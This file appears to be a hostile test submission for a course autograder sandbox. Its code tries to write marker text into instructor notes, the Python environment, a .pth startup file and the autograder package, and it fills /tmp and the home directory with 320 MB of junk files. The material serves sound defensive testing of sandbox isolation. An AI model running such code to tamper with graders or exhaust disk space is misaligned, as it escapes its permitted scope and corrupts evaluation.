"""Writes outside its scratch space: appends to a file beside the course, plants code in the
checkout and the virtual environment, fills /tmp and $HOME with 16 MB files (320 MB).

earned: 0
layer: host
"""
# %% extra
import os, sys, site
course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
targets = [os.path.join(os.path.dirname(course), "instructor_notes.txt"),
           os.path.join(os.path.dirname(np.__file__), "..", "cobotlab_attack.pth"),
           os.path.join(sys.prefix, "cobotlab_attack.py"),
           os.path.expanduser("~/cobotlab_attack.txt")]
import autograder
targets.append(os.path.join(os.path.dirname(autograder.__file__), "cobotlab_attack.py"))
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\nplanted by a student\n")
    except OSError:
        pass
for i in range(20):
    for top in ("/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(top, f"cobotlab-attack-fill-{i}"), "wb") as f:
                f.write(b"0" * (16 * 2**20))
        except OSError:
            pass
